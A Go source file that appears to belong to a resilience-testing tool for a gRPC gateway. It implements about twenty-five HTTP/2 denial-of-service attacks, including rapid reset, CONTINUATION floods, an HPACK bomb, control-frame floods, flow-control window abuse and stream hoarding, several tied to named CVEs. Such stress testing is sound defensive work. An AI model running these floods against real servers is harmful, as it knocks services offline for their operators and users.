package main

import (
	"context"
	"encoding/binary"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/encoding/protowire"
)

// http2Classes are attacks on the gRPC listener by HTTP/2's frames.
func http2Classes() []*class {
	return []*class{
		{family: "HTTP/2", name: "idle connections after the preface", attack: idleHTTP2, connections: 1500},
		{family: "HTTP/2", name: "rapid reset of bare HEADERS", attack: rapidReset(false)},
		{family: "HTTP/2", name: "rapid reset of calls", attack: rapidReset(true)},
		{family: "HTTP/2", name: "resets that the gateway is made to send", attack: provokedReset},
		{family: "HTTP/2", name: "empty CONTINUATION without end", attack: continuation(0)},
		{family: "HTTP/2", name: "full CONTINUATION without end", attack: continuation(16 << 10)},
		{family: "HTTP/2", name: "a table of headers that unfolds", attack: hpackBomb, rate: 2000},
		{family: "HTTP/2", name: "PING", attack: ping(true)},
		{family: "HTTP/2", name: "PING, answers unread", attack: ping(false)},
		{family: "HTTP/2", name: "SETTINGS", attack: settings(true)},
		{family: "HTTP/2", name: "SETTINGS, answers unread", attack: settings(false)},
		{family: "HTTP/2", name: "SETTINGS that change the window of 100 streams", attack: changeWindows},
		{family: "HTTP/2", name: "PRIORITY and unknown frames", attack: strayFrames},
		{family: "HTTP/2", name: "empty DATA", attack: emptyData},
		{family: "HTTP/2", name: "answers under a window of zero", attack: zeroWindow, rate: legalRate},
		{family: "HTTP/2", name: "windows opened byte by byte", attack: smallWindows, rate: legalRate},
		{family: "HTTP/2", name: "windows that overflow", attack: windowOverflow, rate: 2000},
		{family: "HTTP/2", name: "HEADERS without messages", attack: hoard(issueMethod, false, nil)},
		{family: "HTTP/2", name: "half-closed streams without messages", attack: halfClosed},
		{family: "HTTP/2", name: "streams of Health/Watch", attack: hoard(watchMethod, true, message(nil))},
		{family: "HTTP/2", name: "streams of Health/Watch, 100 connections", attack: hoard(watchMethod, true, message(nil)), connections: 100},
		{family: "HTTP/2", name: "Health/Watch without a message", attack: hoard(watchMethod, false, nil)},
		{family: "HTTP/2", name: "streams of reflection", attack: hoard(reflectionMethod, false, message(listServices()))},
		{family: "HTTP/2", name: "reflection, answers unread", attack: unreadReflection},
		{family: "HTTP/2", name: "streams of unknown methods", attack: hoard("/unknown.Service/Method", false, nil), rate: 4000},
	}
}

// listServices is reflection's ServerReflectionRequest{list_services: "*"}.
func listServices() []byte {
	return protowire.AppendString(protowire.AppendTag(nil, 7, protowire.BytesType), "*")
}

func idleHTTP2(ctx context.Context, t *target) error {
	w, end := dialWire(ctx, t)
	defer end()
	if w == nil || !t.next(ctx) || !w.flush() {
		return nil
	}
	w.drop()
	return nil
}

// flood writes one thing after another until the connection is closed. What comes back is
// read or not.
func flood(ctx context.Context, t *target, read bool, write func(w *wire)) error {
	w, end := dialWire(ctx, t)
	defer end()
	if w == nil {
		return nil
	}
	if read {
		go w.drop()
	}
	for w.err == nil && t.next(ctx) {
		write(w)
		if t.pace.rate > 0 {
			w.flush()
		}
	}
	return nil
}

// rapidReset begins calls and resets them at once (CVE-2023-44487).
func rapidReset(withMessage bool) attack {
	return func(ctx context.Context, t *target) error {
		call := smallMessage(t)
		return flood(ctx, t, true, func(w *wire) {
			stream := w.headers(issueMethod, false)
			if withMessage {
				w.data(stream, true, call)
			}
			w.keep(w.WriteRSTStream(stream, http2.ErrCodeCancel))
		})
	}
}

// provokedReset makes mistakes on streams, which the gateway has to reset itself
// (CVE-2025-8671).
func provokedReset(ctx context.Context, t *target) error {
	return flood(ctx, t, true, func(w *wire) {
		stream := w.headers(issueMethod, false)
		w.keep(w.WriteWindowUpdate(stream, 0))
	})
}

// continuation begins headers and never ends them (CVE-2023-45288).
func continuation(size int) attack {
	return func(ctx context.Context, t *target) error {
		begun := false
		fragment := make([]byte, size)
		for i := range fragment {
			fragment[i] = 0x82 // :method GET, indexed
		}
		return flood(ctx, t, true, func(w *wire) {
			if !begun {
				begun = true
				w.keep(w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x83}}))
			}
			w.keep(w.WriteContinuation(1, false, fragment))
		})
	}
}

// hpackBomb names a long field of the table thousands of times.
func hpackBomb(ctx context.Context, t *target) error {
	long := strings.Repeat("x", 3<<10)
	bomb := make([]byte, 4<<10)
	for i := range bomb {
		bomb[i] = 0x80 | 62 // the newest entry of the dynamic table
	}
	return flood(ctx, t, true, func(w *wire) {
		if w.stream == 1 {
			w.headers(issueMethod, false, "x-long", long)
		}
		w.keep(w.WriteHeaders(http2.HeadersFrameParam{StreamID: w.stream, BlockFragment: bomb, EndHeaders: true, EndStream: true}))
		w.stream += 2
	})
}

func ping(read bool) attack {
	return func(ctx context.Context, t *target) error {
		return flood(ctx, t, read, func(w *wire) { w.keep(w.WritePing(false, [8]byte{1})) })
	}
}

func settings(read bool) attack {
	return func(ctx context.Context, t *target) error {
		return flood(ctx, t, read, func(w *wire) {
			w.keep(w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}))
		})
	}
}

// changeWindows opens streams and changes the windows of all with each SETTINGS.
func changeWindows(ctx context.Context, t *target) error {
	size := uint32(0)
	return flood(ctx, t, true, func(w *wire) {
		if w.stream < 200 {
			w.headers(issueMethod, false)
			return
		}
		size++
		w.keep(w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: size & 0xffff}))
	})
}

func strayFrames(ctx context.Context, t *target) error {
	return flood(ctx, t, true, func(w *wire) {
		w.keep(w.WritePriority(w.stream, http2.PriorityParam{StreamDep: w.stream + 2, Weight: 1}))
		w.keep(w.WriteRawFrame(0xfa, 0xff, w.stream, []byte("unknown")))
		w.stream += 2
	})
}

// emptyData sends frames of a message that never grows (CVE-2019-9518).
func emptyData(ctx context.Context, t *target) error {
	return flood(ctx, t, true, func(w *wire) {
		if w.stream == 1 {
			w.headers(issueMethod, false)
		}
		w.keep(w.WriteData(1, false, nil))
	})
}

// zeroWindow makes calls whose answers can never be sent.
func zeroWindow(ctx context.Context, t *target) error {
	w, end := dialWire(ctx, t, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	defer end()
	if w == nil {
		return nil
	}
	go w.drop()
	call := smallMessage(t)
	for t.next(ctx) {
		w.data(w.headers(issueMethod, false), true, call)
		if !w.flush() {
			return nil
		}
	}
	return nil
}

// smallWindows lets each answer be sent byte by byte.
func smallWindows(ctx context.Context, t *target) error {
	w, end := dialWire(ctx, t, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	defer end()
	if w == nil {
		return nil
	}
	go w.drop()
	call := smallMessage(t)
	for t.next(ctx) {
		stream := w.headers(issueMethod, false)
		w.data(stream, true, call)
		for range 50 {
			w.keep(w.WriteWindowUpdate(stream, 1))
		}
		if !w.flush() {
			return nil
		}
	}
	return nil
}

// windowOverflow opens windows beyond what there is.
func windowOverflow(ctx context.Context, t *target) error {
	return flood(ctx, t, true, func(w *wire) {
		stream := w.headers(issueMethod, false)
		w.keep(w.WriteWindowUpdate(stream, 1<<31-1))
		w.keep(w.WriteWindowUpdate(stream, 1<<31-1))
		if stream%64 == 1 {
			w.keep(w.WriteWindowUpdate(0, 1<<31-1))
		}
	})
}

// hoard opens as many streams as the gateway lets it and keeps them; for one that ends it
// opens another.
func hoard(method string, end bool, data []byte) attack {
	const most = 1000 // what clients commonly may have
	return func(ctx context.Context, t *target) error {
		w, leave := dialWire(ctx, t)
		defer leave()
		if w == nil {
			return nil
		}
		free := make(chan struct{}, most)
		for range most {
			free <- struct{}{}
		}
		gone := make(chan struct{})
		go func() {
			defer func() { gone <- struct{}{} }()
			w.count(func(uint32) {
				t.answered()
				select {
				case free <- struct{}{}:
				default:
				}
			})
		}()
		defer func() { leave(); <-gone }()
		for {
			select {
			case <-free:
			case <-ctx.Done():
				return nil
			case <-time.After(10 * time.Millisecond): // of what is answered some may be on the way
				if !w.flush() {
					return nil
				}
				continue
			}
			if !t.next(ctx) {
				return nil
			}
			stream := w.headers(method, false)
			if data != nil {
				w.data(stream, end, data)
			}
			if len(free) == 0 && !w.flush() || w.err != nil {
				return nil
			}
		}
	}
}

// halfClosed ends each call where its message should begin, every other one inside its
// prefix.
func halfClosed(ctx context.Context, t *target) error {
	return flood(ctx, t, true, func(w *wire) {
		if w.stream%4 == 1 {
			w.headers(issueMethod, true)
			return
		}
		w.data(w.headers(issueMethod, false), true, []byte{0, 0, 0})
	})
}

// unreadReflection asks one stream for everything and reads nothing.
func unreadReflection(ctx context.Context, t *target) error {
	w, end := dialWire(ctx, t)
	defer end()
	if w == nil {
		return nil
	}
	stream := w.headers(reflectionMethod, false)
	ask := message(listServices())
	for t.next(ctx) {
		w.data(stream, false, ask)
		if w.err != nil {
			return nil
		}
	}
	return nil
}

// lengthOf returns a prefix that claims so many bytes, and nothing after it.
func lengthOf(n uint32) []byte { return binary.BigEndian.AppendUint32([]byte{0}, n) }
